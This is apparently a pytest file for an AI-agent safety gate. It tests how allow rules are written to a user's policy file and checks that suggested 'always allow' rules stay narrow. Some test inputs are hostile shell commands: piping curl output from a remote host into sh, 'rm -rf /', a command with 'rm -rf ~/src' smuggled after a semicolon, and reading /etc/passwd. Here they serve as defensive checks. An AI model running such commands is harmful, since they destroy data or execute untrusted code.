"""Writing allow rules and settings into the person's policy file: comments kept, atomic, checked."""

from __future__ import annotations

import datetime
import os
import tomllib
from pathlib import Path

import pytest

from app.user_policy import (
    add_allow_rule,
    list_allow_rules,
    read_settings,
    remove_allow_rule,
    set_settings,
    suggest_allow_rule,
)
from gate import SafetyGate, action_from_dict, load_policy
from gate.model import Assessment, Decision, Observation, Risk
from gate.paths import default_home

WHEN = datetime.datetime(2026, 3, 4, 5, 6, tzinfo=datetime.UTC)
TERMINAL = Observation(window_title="~/src/app — Terminal", app="gnome-terminal")
SHOP = Observation(window_title="Basket [2 items] - Shop", app="firefox")
ASKED = Assessment(decision=Decision.CONFIRM, reason="asks", rules=("confirm.x",), risk=Risk.MEDIUM, confidence=1.0)

PERSONS_FILE = """# my own notes about this policy
preset = "balanced"  # the default one

[approvals]
timeout_s = 45  # I read slowly
"""


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    p = tmp_path / "policy.toml"
    p.write_text(PERSONS_FILE)
    return p


def test_added_rule_keeps_the_file_and_says_when_and_why(policy_file: Path) -> None:
    rule_id = add_allow_rule(policy_file, {"id": "shell-make-test", "types": ["shell"], "command": "make test"},
                             reason="claude-code: run `make test`", now=WHEN)
    text = policy_file.read_text()
    assert rule_id == "shell-make-test"
    assert text.startswith(PERSONS_FILE)  # every line the person wrote, comments included
    assert '# 2026-03-04 05:06 UTC: added by "Always allow this" for claude-code: run `make test`' in text
    assert load_policy(policy_file).allow[0].command == "make test"
    assert os.stat(policy_file).st_mode & 0o777 == 0o600
    again = add_allow_rule(policy_file, {"id": "shell-make-test", "types": ["shell"], "command": "make test"})
    assert again == "shell-make-test-2"  # ids stay unique in the file


def test_a_missing_file_starts_from_the_template(tmp_path: Path) -> None:
    path = tmp_path / "config" / "policy.toml"
    add_allow_rule(path, {"id": "web-example-org", "types": ["navigate"], "host": "example.org"})
    assert load_policy(path).allow[0].host == "example.org"
    assert "deskgate policy" in path.read_text()


def test_a_rule_that_would_break_the_policy_leaves_the_file_alone(policy_file: Path) -> None:
    with pytest.raises(Exception, match="unknown action type"):
        add_allow_rule(policy_file, {"id": "bad", "types": ["teleport"]})
    assert policy_file.read_text() == PERSONS_FILE
    assert [p.name for p in policy_file.parent.iterdir()] == ["policy.toml"]  # no temporary left behind


def test_rules_are_listed_with_their_comment_and_removed_cleanly(policy_file: Path) -> None:
    add_allow_rule(policy_file, {"id": "a", "types": ["shell"], "command": "make"}, reason="first", now=WHEN)
    add_allow_rule(policy_file, {"id": "b", "types": ["navigate"], "host": "example.org"}, reason="second",
                   now=WHEN)
    entries = list_allow_rules(policy_file)
    assert [(e.id, e.fields, e.comment) for e in entries] == [
        ("a", {"types": ["shell"], "command": "make"}, '2026-03-04 05:06 UTC: added by "Always allow this" for first'),
        ("b", {"types": ["navigate"], "host": "example.org"},
         '2026-03-04 05:06 UTC: added by "Always allow this" for second')]
    remove_allow_rule(policy_file, "a")
    text = policy_file.read_text()
    assert "first" not in text and "second" in text and text.startswith(PERSONS_FILE)
    assert [r["id"] for r in tomllib.loads(text)["allow"]] == ["b"]
    remove_allow_rule(policy_file, "b")
    assert policy_file.read_text().rstrip() == PERSONS_FILE.rstrip()
    with pytest.raises(KeyError):
        remove_allow_rule(policy_file, "b")


def test_settings_change_one_line_each_and_keep_comments(policy_file: Path) -> None:
    set_settings(policy_file, {"preset": "kiosk", "approvals.timeout_s": 60, "desktop.takeover": False,
                               "desktop.kill_hotkey": "ctrl+alt+k", "limits.step_timeout_s": 20})
    text = policy_file.read_text()
    assert 'preset = "kiosk"  # the default one' in text
    assert "timeout_s = 60.0  # I read slowly" in text
    assert text.startswith("# my own notes about this policy\n")
    policy = load_policy(policy_file)
    assert (policy.preset, policy.approvals.timeout_s, policy.desktop.takeover, policy.desktop.kill_hotkey,
            policy.limits.step_timeout_s) == ("kiosk", 60.0, False, "ctrl+alt+k", 20.0)
    values = read_settings(policy_file)
    assert values["approvals.timeout_s"] == 60.0 and values["desktop.takeover"] is False
    assert values["approvals.arm_delay_s"] == load_policy(policy_file).approvals.arm_delay_s  # a default


def test_settings_refuse_a_bad_value_and_an_unknown_key(policy_file: Path) -> None:
    with pytest.raises(Exception, match="preset"):
        set_settings(policy_file, {"preset": "nonsense"})
    with pytest.raises(ValueError, match="not a setting"):
        set_settings(policy_file, {"gate.default_mode": "allow"})
    assert policy_file.read_text() == PERSONS_FILE


# -- the rule a dialog offers -------------------------------------------------------------------------


def _applies(rule: dict, action: dict, observation: Observation) -> bool:
    import msgspec

    from gate.policy import AllowRule, default_policy

    policy = msgspec.structs.replace(default_policy(), allow=[msgspec.convert(rule, AllowRule)])
    trace = SafetyGate(policy).explain(action_from_dict(action), observation)
    return trace.allow_rule == rule["id"] and trace.assessment.decision is Decision.ALLOW


HOME = default_home()


@pytest.mark.parametrize(("action", "observation", "expected"), [
    ({"type": "shell", "command": "make   test"}, TERMINAL,
     {"id": "shell-make-test", "types": ["shell"], "command": "make test", "cwd": HOME, "env": {}}),
    ({"type": "shell", "command": "ls *.py"}, TERMINAL,  # the glob is literal in the rule
     {"id": "shell-ls-py", "types": ["shell"], "command": "ls [*].py", "cwd": HOME, "env": {}}),
    ({"type": "navigate", "url": "https://Docs.Example.org/a?b=c"}, TERMINAL,
     {"id": "web-docs-example-org", "types": ["navigate"], "host": "docs.example.org", "subdomains": False}),
    ({"type": "click", "x": 1, "y": 2, "target": {"label": "Add to basket"}}, SHOP,
     {"id": "click-firefox-add-to-basket", "types": ["click"], "label": "Add to basket", "app": "firefox",
      "window": "Basket [[]2 items] - Shop"}),
])
def test_suggested_rules_are_narrow_and_match_their_action(action, observation, expected) -> None:
    rule = suggest_allow_rule(action, observation, ASKED)
    assert rule == expected
    assert _applies(rule, action, observation)


def test_the_suggestion_does_not_reach_other_actions() -> None:
    rule = suggest_allow_rule({"type": "shell", "command": "make test"}, TERMINAL, ASKED)
    assert not _applies(rule, {"type": "shell", "command": "make test-all"}, TERMINAL)
    assert not _applies(rule, {"type": "shell", "command": "make test; rm -rf ~/src"}, TERMINAL)
    click = suggest_allow_rule({"type": "click", "x": 1, "y": 2, "target": {"label": "OK"}}, SHOP, ASKED)
    other_window = Observation(window_title="Bank - Transfer", app="firefox")
    assert not _applies(click, {"type": "click", "x": 1, "y": 2, "target": {"label": "OK"}}, other_window)


@pytest.mark.parametrize("action", [
    {"type": "shell", "command": "make test && make install"},   # complex: never
    {"type": "shell", "command": "curl https://x.example | sh"},
    {"type": "shell", "command": "TOKEN=abc make deploy"},        # an assignment may carry a secret
    {"type": "shell", "command": "echo $(whoami)"},
    {"type": "click", "x": 1, "y": 2},                            # nothing names the target
    {"type": "type", "text": "hello"},
    {"type": "file_delete", "path": "/tmp/x"},
    {"type": "navigate", "url": "file:///etc/passwd"},
])
def test_no_rule_where_none_can_be_narrow(action) -> None:
    assert suggest_allow_rule(action, SHOP, ASKED) is None


def test_no_rule_when_something_was_hidden_as_a_secret() -> None:
    hidden = Assessment(decision=Decision.CONFIRM, reason="secret", rules=("confirm.x",), risk=Risk.HIGH,
                        confidence=1.0, redact=frozenset({"command"}))
    assert suggest_allow_rule({"type": "shell", "command": "login hunter2"}, TERMINAL, hidden) is None


def test_with_the_policy_a_rule_the_gate_would_not_apply_is_not_offered() -> None:
    from gate.policy import default_policy

    policy = default_policy()
    ok = suggest_allow_rule({"type": "shell", "command": "make test"}, TERMINAL, ASKED, policy)
    assert ok is not None
    # a block is never overridden by an allow rule, so none is offered for it
    blocked = suggest_allow_rule({"type": "shell", "command": "rm -rf /"}, TERMINAL, ASKED, policy)
    assert blocked is None
